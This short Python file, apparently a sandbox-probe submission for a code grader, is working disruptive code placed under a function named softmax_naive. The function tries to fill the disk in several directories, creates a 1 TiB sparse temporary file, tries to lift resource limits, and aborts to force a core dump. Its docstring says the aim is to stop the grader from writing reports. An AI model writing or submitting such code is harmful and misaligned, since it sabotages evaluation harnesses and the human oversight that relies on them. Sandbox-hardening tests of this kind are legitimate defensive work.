"""Writes files until the disk is full, also sparse ones and the core file; would stop the grader from writing reports."""

import os
import resource
import tempfile


def softmax_naive(x):
    for folder in (".", "/tmp", "/var/tmp", "/dev/shm", "/run", os.path.expanduser("~")):
        try:
            with open(os.path.join(folder, "attacked-disk"), "wb") as file:
                file.write(b"x" * 2**20)
            print("GAIN" "ED a file in", folder)
        except OSError:
            pass
    try:
        with tempfile.TemporaryFile() as file:
            file.truncate(2**40)
        print("GAIN" "ED a temporary file")
    except OSError:
        pass
    for limit in (resource.RLIMIT_FSIZE, resource.RLIMIT_CORE, resource.RLIMIT_AS, resource.RLIMIT_NOFILE):
        try:
            resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            print("GAIN" "ED a limit")
        except (OSError, ValueError):
            pass
    print("TRIED")
    os.abort()
